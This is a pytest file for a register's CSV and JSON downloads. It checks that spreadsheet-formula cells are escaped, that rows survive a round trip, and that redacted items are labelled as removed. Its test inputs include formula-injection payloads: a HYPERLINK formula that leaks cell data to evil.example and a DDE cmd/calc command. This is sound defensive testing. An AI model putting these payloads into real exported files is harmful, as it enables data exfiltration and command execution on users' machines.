"""CSV files: any program reads back what was written, and no spreadsheet runs it."""

from __future__ import annotations

import csv
import io
import unicodedata
from dataclasses import replace
from decimal import Decimal
from typing import Any

import orjson
import pytest
from flask import Flask
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st

from register.core.calendar import now_utc
from register.core.content import AttachedDocument
from register.core.kind import PartFile
from register.core.questions import Question, day
from register.decisions.content import Criterion, Rationale
from register.downloads.cells import lines, written
from register.downloads.columns import heading, table
from register.downloads.entries import batches
from register.downloads.writing import About, json_file
from register.extensions import reading, writing
from register.kinds import KINDS, kind_named
from register.publishing import removing
from register.publishing.acts import Publication
from register.settings import Settings
from register.web.current import now
from tests.consultations.builders import consultation, view
from tests.decisions.builders import REDACTED
from tests.downloads.reading import table as read
from tests.downloads.reading import whole
from tests.feeds.publishing import publication, publish_now

FORMULAS = (
    "=1+1",
    "+44 191 496 0000",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b@x",
    *(f"{unseen}=1+1" for unseen in "\u2003\u3000\u202f\u00ad\u180e\u2066"),
    "\ufeff-1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "﹣1",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
)
DOCUMENTS = (
    AttachedDocument(title="One", url="https://example.org/1"),
    AttachedDocument(title="Two", url="https://example.org/2"),
)
HARMLESS = ("Rent", "1 = 1", "a-b", "(-1)", "'quoted'", '"quoted"', "£12,000", "– a dash", "", "é", "日本", "5.00")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_run_is_guarded_and_readable(text: str) -> None:
    cell = written(text)
    assert cell[0] == "'"
    assert cell[1:] == text.replace("\x00", "")


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_cell_is_left_as_it_is(text: str) -> None:
    assert written(text) == text


@pytest.mark.parametrize("number", [0, 7, -7])
def test_numbers_stay_numbers(number: int) -> None:
    assert written(number) == str(number)


@given(st.lists(st.lists(st.text() | st.integers(), min_size=2, max_size=2), min_size=1))
def test_any_text_is_read_back_row_by_row_and_never_runs(rows: list[list[str | int]]) -> None:
    rows = [["".join(c for c in str(cell) if not "\ud800" <= c <= "\udfff") for cell in row] for row in rows]
    read_back = list(csv.reader(io.StringIO(lines(rows).decode(), newline=""), strict=True))
    assert read_back == [[written(cell) for cell in row] for row in rows]
    for cell in (cell for row in read_back for cell in row):
        shown = unicodedata.normalize("NFKC", cell).lstrip(" \u200b\ufeff")
        assert not shown.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


def test_lines_end_as_rfc_4180_says() -> None:
    assert lines([["a", 'say "b", c'], ["two\nlines", 3]]) == b'a,"say ""b"", c"\r\n"two\nlines",3\r\n'


def test_hostile_words_of_an_entry_stay_in_their_cells(app: Flask, client: FlaskClient) -> None:
    title = '=1+1,"two"\r\nlines; 👩‍👩‍👧‍👦 ' + "x" * 5_000
    publish_now(app, publication(title=title, summary="+44", rationale=Rationale(reasons="-1\n- 2\n\x1b[31m")))
    row = read(client, "/decisions.csv")[0]
    on_one_line = "'" + " ".join(title.split())
    assert row["Title"] == on_one_line
    assert row["Summary"] == "'+44"
    assert row["Rationale: Reasons"] == "'-1\n- 2\n[31m"
    assert read(client, "/search.csv")[0]["Title"] == on_one_line


def test_days_sums_and_counts_are_data_and_the_rest_is_words(app: Flask, client: FlaskClient) -> None:
    publish_now(app, publication(amount_awarded=Decimal("1234.50")))
    row = read(client, "/decisions.csv")[0]
    assert (row["Decided on"], row["Amount awarded"]) == ("2026-03-03", "1234.50")
    assert (row["What was decided"], row["Recipient"]) == ("Award", "Wear Vale Halls (invented) (XI-CHC-0000001)")
    assert (row["Term: Starts on"], row["Revision"], row["Invented example"]) == ("2026-04-01", "1", "Yes")
    assert row["Address"] == "https://register.test/decisions/FD-2027-0001"
    mixed = read(client, "/search.csv")[0]
    assert (mixed["Amount in pounds"], mixed["Public body"]) == ("1234.50", "Coalmoor District Council (invented)")


def remove(app: Flask, settings: Settings, unit: str, *, kind: str = "redact") -> None:
    """Redact a unit of the first entry, or put it on hold."""
    why: dict[str, Any] = {"entry_id": 1, "note": "", "by_id": 1, "at": now_utc()}
    does: dict[str, Any] = {"role": "publisher", "settings": settings}
    with app.app_context(), writing() as connection:
        if kind == "hold":
            removing.hold(connection, names=[unit], reason="mistake", **why, **does)
            return
        asked = removing.ask(
            connection,
            action="redact",
            removes={1: [unit]},
            category="personal_data",
            legal_basis="uk_gdpr_17",
            **why,
        )
        removing.approve(connection, request_id=asked.id, approver_id=2, at=now_utc(), **does)


def test_what_was_removed_or_withheld_says_so(app: Flask, client: FlaskClient, settings: Settings) -> None:
    publish_now(app, publication(summary=None, documents=DOCUMENTS))
    for unit in ("rationale.reasons", "documents/2"):
        remove(app, settings, unit)
    remove(app, settings, "contact", kind="hold")

    row = read(client, "/decisions.csv")[0]
    assert row["Rationale: Reasons"].startswith("Removed for good on ")
    assert row["Documents"].startswith("One, https://example.org/1; One part of this was removed for good on ")
    assert row["Contact"].startswith("On hold since ")
    assert row["Summary"] == ""
    content = whole(client, "/decisions.json")["records"][0]["content"]
    assert content["rationale"]["reasons"]["category"] == "Personal data"
    assert content["documents"] == [{"title": "One", "url": "https://example.org/1"}]
    assert [(one["unit"], one["kind"]) for one in content["removed"]] == [
        ("rationale.reasons", "redact"),
        ("documents/2", "redact"),
        ("contact", "hold"),
    ]


def test_an_item_that_was_removed_keeps_its_row_and_its_address(
    app: Flask, client: FlaskClient, settings: Settings
) -> None:
    document = consultation(views=tuple(view(number) for number in (1, 2, 17))).model_dump(
        mode="json", exclude_none=True
    )
    publish_now(app, Publication(kind_named("consultation"), document, "authored", "publisher"))
    remove(app, settings, "views/17")

    rows = read(client, "/consultations/views.csv")
    assert [row["Number"] for row in rows] == ["1", "2", "17"]
    assert rows[2]["Address"].endswith("#view-17")
    assert rows[2]["Theme"].startswith("View 17 was removed for good on ")
    assert rows[2]["Theme"].endswith(": personal data, UK GDPR, Article 17: right to erasure.")
    assert not any(rows[2][name] for name in ("What people said", "What was done"))
    records = whole(client, "/consultations/views.json")["records"]
    assert (records[2]["address"], records[2]["removed"]["unit"]) == (rows[2]["Address"], "views/17")
    listed = read(client, "/consultations.csv")[0]
    assert listed["Views, and what became of each: how many"].startswith("2; One part of this was removed for good on ")


def test_headings_say_what_a_field_belongs_to() -> None:
    asked = {
        "title": ("Title", "Title"),
        "body.name": ("Public body", "Public body"),
        "term.start": ("Starts on", "Term: Starts on"),
        "change.notice.written_on": ("Written notice given on", "Written notice given on"),
        "social_impact.assessed_on": ("Assessed on", "Social impact: Assessed on"),
    }
    for name, (label, expected) in asked.items():
        assert heading(Question(name, label)) == expected


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.name)
def test_no_two_columns_of_a_kind_have_one_heading(kind: object) -> None:
    headings = table("", kind, None).headings  # type: ignore[arg-type]
    assert len(set(headings)) == len(headings) > 30
    for part in kind.parts:  # type: ignore[attr-defined]
        headings = table("", kind, part).headings  # type: ignore[arg-type]
        assert len(set(headings)) == len(headings)


CRITERIA = PartFile(
    "programme_criteria",
    "Criteria",
    (Question("criterion", "Criterion"), Question("weight", "Weight"), Question("on", "On", day)),
    fragment="criterion",
)


def test_a_part_has_a_row_for_each_item_with_its_entry_in_front(app: Flask, client: FlaskClient) -> None:
    """At the seam: the entries are real, their lists are put in by hand."""
    publish_now(app, publication(title="One"), publication(title="=Two"), publication(title="Three"))
    items = [{"number": 4, "criterion": "=Need", "on": "2026-01-31"}, {"criterion": "Reach", "weight": "half"}]
    held = [items, REDACTED.model_dump(mode="json"), None]
    with app.app_context(), reading() as connection:
        entries = next(batches(connection, [1, 2, 3], now()))
        made = [
            replace(one, document={**one.document, **({"programme_criteria": part} if part else {})})
            for one, part in zip(entries, held, strict=True)
        ]
    shown = table("https://register.test", kind_named("decision"), CRITERIA)
    assert shown.headings == ("Reference", "Title", "Address", "Criterion", "Weight", "On")
    address = "https://register.test/decisions/FD-2027-000"
    removed = "Removed for good on 1 June 2026: personal data, UK GDPR, article 6."
    assert [row for one in made for row in shown.rows(one)] == [
        ["FD-2027-0001", "One", f"{address}1#criterion-4", "=Need", "", "2026-01-31"],
        ["FD-2027-0001", "One", f"{address}1", "Reach", "half", ""],
        ["FD-2027-0002", "=Two", f"{address}2", removed, "", ""],
    ]
    about = About({}, "", 1, "", "", 3)
    document = orjson.loads(b"".join(json_file(about, "https://register.test", CRITERIA, iter([made]))))
    assert [one["address"] for one in document["records"]] == [f"{address}1#criterion-4", f"{address}1", f"{address}2"]
    assert document["records"][0]["item"] == items[0]
    assert document["records"][2]["removed"] == held[1]


def test_a_list_with_a_file_of_its_own_is_only_counted_in_the_list_of_entries(app: Flask) -> None:
    kind = kind_named("decision")
    known = replace(kind, parts=(PartFile("rationale.criteria", "Criteria", ()),))
    publish_now(app, publication(rationale=Rationale(criteria=(Criterion(criterion="a"), Criterion(criterion="b")))))
    with app.app_context(), reading() as connection:
        entry = next(batches(connection, [1], now()))[0]
    shown = table("", known, None)
    row = dict(zip(shown.headings, next(shown.rows(entry)), strict=True))
    assert row["Rationale: Criteria: how many"] == "2"
